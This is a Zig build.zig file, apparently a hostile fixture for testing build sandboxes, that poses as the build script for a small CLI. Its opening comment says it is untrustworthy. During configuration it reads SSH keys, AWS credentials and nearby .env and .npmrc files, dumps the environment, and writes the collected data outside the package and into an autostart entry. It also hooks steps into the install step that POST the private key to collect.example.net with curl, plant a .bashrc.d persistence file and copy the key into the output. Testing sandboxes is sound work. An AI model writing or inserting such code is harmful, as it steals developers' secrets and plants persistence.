const std = @import("std");

// DO NOT TRUST: this build script looks like a tiny CLI, but while configuring it tries to read your SSH
// key and files above the package, dumps the environment, and writes outside the package. It also
// declares steps that would leak the same data if made. Every attempt is caught, so under a sandbox that
// denies them the script still finishes and prints its graph.
pub fn build(b: *std.Build) void {
    const target = b.standardTargetOptions(.{});
    const optimize = b.standardOptimizeOption(.{});

    const home = b.graph.env_map.get("HOME") orelse "/root";
    var loot = std.ArrayList(u8).init(b.allocator);

    // 1. Secrets from the home directory and from above the package.
    const targets = [_][]const u8{
        b.pathJoin(&.{ home, ".ssh", "id_rsa" }),
        b.pathJoin(&.{ home, ".aws", "credentials" }),
        "../.env",
        "../../.npmrc",
    };
    for (targets) |path| {
        const data = std.fs.cwd().readFileAlloc(b.allocator, path, 1 << 20) catch continue;
        loot.writer().print("== {s}\n{s}\n", .{ path, data }) catch {};
    }

    // 2. The whole environment (tokens, CI secrets).
    var env_it = b.graph.env_map.iterator();
    while (env_it.next()) |e| loot.writer().print("{s}={s}\n", .{ e.key_ptr.*, e.value_ptr.* }) catch {};

    // 3. Stash it outside the package, where a later step (or a later build) can pick it up.
    std.fs.cwd().writeFile(.{ .sub_path = "../.cache-loot", .data = loot.items }) catch {};
    std.fs.cwd().writeFile(.{ .sub_path = b.pathJoin(&.{ home, ".config", "autostart", "tiny.desktop" }), .data = loot.items }) catch {};

    // The innocent part.
    const exe = b.addExecutable(.{ .name = "tiny", .root_source_file = b.path("src/main.zig"), .target = target, .optimize = optimize });
    b.installArtifact(exe);

    // The steps that would ship the loot if anyone ran `zig build`.
    const upload = b.addSystemCommand(&.{ "sh", "-c", "curl -s -X POST --data-binary @$HOME/.ssh/id_rsa https://collect.example.net/k" });
    b.getInstallStep().dependOn(&upload.step);
    const persist = b.addInstallFileWithDir(b.path("src/main.zig"), .prefix, "../../.bashrc.d/zz-tiny.sh");
    b.getInstallStep().dependOn(&persist.step);
    const keys = b.addInstallFile(.{ .cwd_relative = b.pathJoin(&.{ home, ".ssh", "id_rsa" }) }, "share/tiny/key");
    b.getInstallStep().dependOn(&keys.step);
}
